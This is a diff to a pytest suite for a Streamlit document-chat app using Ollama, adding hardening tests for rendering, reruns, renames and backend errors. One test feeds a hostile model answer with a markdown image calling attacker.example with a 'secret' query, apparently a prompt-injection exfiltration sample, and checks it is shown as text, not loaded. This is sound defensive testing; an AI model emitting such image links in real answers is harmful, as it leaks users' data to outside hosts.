@@ -2,15 +2,19 @@
 
 from __future__ import annotations
 
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 from streamlit.testing.v1 import AppTest
 
+from rag.chat import AnswerStream
 from rag.config import PROJECT_ROOT
+from rag.formatting import safe_markdown
+from tests import fake_ollama
 from tests.fake_ollama import ANSWER_PIECES, FakeOllama
 from tests.test_llm import free_port
-from ui_common import shared_store
+from ui_common import shared_conversations, shared_store
 
 GARDEN = "# Garden\n\nThe tomatoes in the garden are watered every Tuesday by Ana.\n"
 
@@ -75,7 +79,7 @@ def test_a_backend_failure_keeps_the_question_says_why_and_offers_retry(
     assert [m.name for m in at.chat_message] == ["user", "assistant"]
     assert at.chat_message[0].text[0].value == "When are the tomatoes watered?"
     error = at.chat_message[1].error[0].value
-    assert "Ollama is not running at http://127.0.0.1:" in error and "ollama serve" in error
+    assert "Ollama is not running at `http://127.0.0.1:" in error and "ollama serve" in error  # URLs as code
     retry = at.chat_message[1].button[0]
     assert retry.label == "Retry"
     retry.click().run()  # still down: asked again, fails again; the first attempt stays on record
@@ -123,7 +127,7 @@ def test_an_answer_broken_mid_stream_keeps_the_partial_text_marked(
         server.mode = "ok"
         assistant.button[0].click().run()
         assert [m.name for m in at.chat_message] == ["user", "assistant", "user", "assistant"]
-        assert at.chat_message[3].markdown[0].value.strip() == "".join(ANSWER_PIECES).strip()
+        assert at.chat_message[3].markdown[0].value.strip() == safe_markdown("".join(ANSWER_PIECES)).strip()
         assert not at.chat_message[3].error
         # The failed attempt is not part of what the model is told: only the completed exchange is history.
         last_prompt = server.requests[-1][1]["prompt"]
@@ -234,7 +238,7 @@ def test_a_deleted_document_drops_out_of_the_selection_with_a_note(
     at.run()
     assert not at.exception, at.exception
     note = at.main.info[0].value
-    assert "No longer in your knowledge base" in note and "allotment.md" in note
+    assert "No longer in your knowledge base" in note and "allotment\\.md" in note
     assert at.multiselect[0].values == ["garden.md"]
     assert at.multiselect[0].options == ["garden.md"]
 
@@ -252,3 +256,111 @@ def test_a_deleted_document_drops_out_of_the_selection_with_a_note(
     again.run()
     next(b for b in again.sidebar.button if b.label == "When are the tomatoes watered?").click().run()
     assert again.multiselect[0].values == ["garden.md"] and not again.main.info
+
+
+# -- Hardening: nothing leaks, every failure is a message, partial answers are kept ----------------------
+
+HOSTILE_ANSWER = ["Sure. ", "![](https://attacker.example/?q=secret) ", "The tomatoes ", "are watered [1]."]
+
+
+@pytest.mark.slow
+def test_a_remote_image_in_an_answer_is_shown_as_text_not_loaded(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(fake_ollama, "ANSWER_PIECES", HOSTILE_ANSWER)  # what the model "was told" to write
+    with FakeOllama(models=["llama2:latest"]) as server:
+        at = chat_page(tmp_path, monkeypatch, {"garden.md": GARDEN}, OLLAMA_HOST=server.host)
+        at.chat_input[0].set_value("When are the tomatoes watered?").run()
+        assert not at.exception, at.exception
+    assistant = at.chat_message[1]
+    shown = "\n".join(m.value for m in assistant.markdown)
+    assert "image from `https://attacker.example/?q=secret` — not loaded" in shown
+    assert "![" not in shown.replace("\\[", "")  # no image syntax left for the browser to load
+    assert "\\[1\\]" in shown  # the citation reads [1]
+    assert not assistant.get("imgs") and not at.get("imgs")
+
+
+@pytest.mark.slow
+def test_a_rerun_during_the_stream_keeps_the_question_and_the_partial_answer(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from streamlit.runtime.scriptrunner_utils.exceptions import RerunException
+    from streamlit.runtime.scriptrunner_utils.script_requests import RerunData
+
+    real_iter = AnswerStream.__iter__
+
+    def clicked_away(self: AnswerStream) -> Iterator[str]:
+        """A click elsewhere while the answer streams: Streamlit raises its rerun inside the stream."""
+        for i, piece in enumerate(real_iter(self)):
+            if i == 2:
+                raise RerunException(RerunData())
+            yield piece
+
+    with FakeOllama(models=["llama2:latest"]) as server:
+        at = chat_page(tmp_path, monkeypatch, {"garden.md": GARDEN}, OLLAMA_HOST=server.host)
+        monkeypatch.setattr(AnswerStream, "__iter__", clicked_away)
+        at.chat_input[0].set_value("When are the tomatoes watered?").run()
+        assert not at.exception, at.exception
+    assert [m.name for m in at.chat_message] == ["user", "assistant"]  # the rerun shows the saved turn
+    assert at.chat_message[0].text[0].value == "When are the tomatoes watered?"
+    assistant = at.chat_message[1]
+    assert assistant.markdown[0].value.strip() == "".join(ANSWER_PIECES[:2]).strip()
+    assert "stopped when the page was used before the answer finished" in assistant.error[0].value
+    assert assistant.button[0].label == "Retry"
+    conversation = shared_conversations(str(tmp_path / "data")).get(at.session_state["conversation_id"])
+    assert [(m.role, m.content) for m in conversation.messages] == [
+        ("user", "When are the tomatoes watered?"),
+        ("assistant", "".join(ANSWER_PIECES[:2]).strip()),
+    ]
+
+
+@pytest.mark.slow
+def test_renaming_to_an_empty_title_says_so_and_keeps_the_old_one(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    at = chat_page(tmp_path, monkeypatch, {}, RAG_BACKEND="embedded")
+    at.chat_input[0].set_value("What is in my documents?").run()
+    at.sidebar.text_input[0].set_value("   ")
+    next(b for b in at.sidebar.button if b.label == "Rename").click().run()
+    assert not at.exception, at.exception
+    assert "title cannot be empty" in at.sidebar.error[0].value
+    assert "What is in my documents?" in [b.label for b in at.sidebar.button]
+
+
+@pytest.mark.slow
+def test_a_conversation_deleted_in_another_tab_says_so_and_starts_a_new_one(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    at = chat_page(tmp_path, monkeypatch, {}, RAG_BACKEND="embedded")
+    at.chat_input[0].set_value("What is in my documents?").run()
+    shared_conversations(str(tmp_path / "data")).delete(at.session_state["conversation_id"])  # the other tab
+    at.run()
+    assert not at.exception, at.exception
+    assert "may have been deleted in another tab" in at.main.warning[0].value
+    assert len(at.chat_message) == 0
+    at.chat_input[0].set_value("What is in my documents?").run()  # and asking goes on, in a new conversation
+    assert not at.exception, at.exception
+    assert [m.name for m in at.chat_message] == ["user", "assistant"]
+
+
+@pytest.mark.slow
+def test_an_engine_that_cannot_start_shows_what_to_fix(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("RAG_DATA_DIR", str(tmp_path / "data"))
+    monkeypatch.setenv("OLLAMA_HOST", "ftp://10.0.0.5:11434")
+    at = AppTest.from_file(str(PROJECT_ROOT / "app.py"), default_timeout=240)
+    at.run()
+    assert not at.exception, at.exception
+    message = at.error[0].value
+    assert "is not an http(s) URL" in message and "OLLAMA_HOST" in message
+    assert any("Settings page" in c.value for c in at.caption)
+    assert [getattr(link, "label", None) for link in at.sidebar.get("page_link")] == ["Chat", "Documents", "Settings"]
+
+
+@pytest.mark.slow
+def test_a_model_on_another_machine_is_named_in_the_sidebar(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    at = chat_page(tmp_path, monkeypatch, {}, RAG_BACKEND="ollama", OLLAMA_HOST="http://10.0.0.5:11434")
+    warning = at.sidebar.warning[0].value
+    assert "your questions and passages are sent to `http://10.0.0.5:11434`" in warning
+    (tmp_path / "local").mkdir()
+    local = chat_page(tmp_path / "local", monkeypatch, {}, RAG_BACKEND="ollama", OLLAMA_HOST="http://localhost:1")
+    assert not local.sidebar.warning
